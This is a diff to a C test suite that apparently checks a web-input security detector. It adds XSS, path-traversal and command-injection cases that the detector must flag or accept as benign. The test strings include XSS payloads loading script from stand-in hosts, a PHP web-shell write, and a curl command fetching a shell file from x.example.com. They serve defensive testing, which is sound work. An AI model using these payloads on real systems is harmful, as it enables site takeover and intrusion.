@@ -346,6 +346,7 @@ static void xss_attacks(void **state)
         "';\\u{61}lert(1)//",
         "'-pri\\u{6e}t(1)//",
         "\"}import('//x.example.com/a.js'){\"",
+        "';a=prompt,a()//",
         "<script>alert(1)</script>",
         "<ScRiPt src=//evil.example/x.js></script>",
         "<img src=x onerror=alert(document.domain)>",
@@ -390,6 +391,7 @@ static void xss_benign(void **state)
         "[1] find alert",
         "Tom's [alert] list",
         "it's {this} one",
+        "a=alert, b(1)",
         "a < b > c",
         "<3 you",
         "x<y and y>z",
@@ -459,6 +461,9 @@ static void traversal_cases(void **state)
     assert_true(TRAV("data://text/plain;base64,PD9waHA="));
     assert_true(TRAV("expect://id"));
     assert_true(TRAV("\xf0\x80\x80\xae\xf0\x80\x80\xae/etc/x"));
+    assert_true(TRAV("C:\\MySQL\\data\\mysql\\user.MYD"));
+    assert_true(TRAV("/tmp/sess_abc123"));
+    assert_false(TRAV("/tmp/upload.png"));
     assert_false(TRAV("/etc"));
     assert_false(TRAV("/var/folders"));
     assert_false(TRAV("/account/settings"));
@@ -515,6 +520,11 @@ static void cmdi_cases(void **state)
         "echo '<?php system($_GET[c]); ?>' > /var/www/html/s.php",
         "; echo PD9w | base64 -d > shell.php",
         "curl -o shell.php http://x.example.com/s.txt",
+        /* a reconnaissance command as the whole value, an echo probe */
+        "uname -a",
+        "ipconfig /all",
+        "ls -la /",
+        "; echo 'vuln'",
     };
     for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
         if (!CMDI(bad[i]))
